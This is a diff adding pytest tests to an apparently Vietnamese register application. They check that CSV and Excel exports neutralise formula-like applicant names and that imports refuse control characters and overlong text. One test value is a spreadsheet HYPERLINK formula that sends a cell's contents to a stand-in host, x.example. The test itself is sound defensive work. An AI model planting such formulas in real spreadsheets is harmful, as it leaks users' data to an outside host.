@@ -635,3 +635,59 @@ def test_indexes_are_rebuilt_only_when_the_load_at_least_doubles_the_table(
         after = [i["name"] for i in inspect(connection).get_indexes("t")]
     assert inside == ([] if rebuilt else ["ix_t_v"])
     assert after == ["ix_t_v"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_an_applicant_named_like_a_formula_is_exported_as_text_and_read_back(
+    catalogue_db, tmp_path, suffix
+):
+    from openpyxl import load_workbook
+
+    hostile = [
+        '=HYPERLINK("http://x.example/?"&D3,"Xem")',
+        "+84 912 345 678 Nguyễn",
+        "-Lê Văn A",
+        "@SUM(A1:A9) Trần",
+    ]
+    rows = [_row(i, applicant_name=name) for i, name in enumerate(hostile)]
+    register_io.import_register(catalogue_db, _write(tmp_path / "in.csv", rows), now=NOW)
+    out = tmp_path / f"out{suffix}"
+    register_io.export_register(catalogue_db, out)
+    if suffix == ".csv":
+        with out.open(encoding="utf-8-sig", newline="") as handle:
+            cells = [row[3] for row in list(csv.reader(handle))[1:]]
+        assert sorted(cells) == sorted(f"'{name}" for name in hostile)  # no cell starts a formula
+    else:
+        sheet = load_workbook(out).active
+        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.column == 4]
+        assert {c.value for c in cells} == set(hostile)
+        assert {c.data_type for c in cells} == {"s"}  # text, never a formula
+    other = open_database(f"sqlite:///{tmp_path / 'other.sqlite3'}")
+    setup.initialise(other, samples=True)
+    register_io.import_register(other, out, now=NOW)  # the export reads back as it was
+    with other.read() as session:
+        names = set(session.scalars(select(Dossier.applicant_name)))
+    other.dispose()
+    assert names == set(hostile)
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "words"),
+    [
+        ("applicant_name", "Nguyễn\x00Văn A", "ký tự điều khiển"),
+        ("note", "ghi chú\x1b[31m", "ký tự điều khiển"),
+        ("address", "Biên Hòa\x07", "ký tự điều khiển"),
+        ("address", "x" * 501, "quá dài"),
+        ("note", "x" * 2001, "quá dài"),
+    ],
+)
+def test_control_characters_and_overlong_text_are_refused_by_row_and_column(
+    catalogue_db, tmp_path, column, value, words
+):
+    rows = [_row(i) for i in range(30)]
+    rows[17][column] = value
+    with pytest.raises(ImportRejected) as rejected:
+        register_io.import_register(catalogue_db, _write(tmp_path / "bad.csv", rows), now=NOW)
+    (error,) = rejected.value.errors
+    assert error.row == 19 and error.column == column and words in error.reason
+    assert _count(catalogue_db) == 0
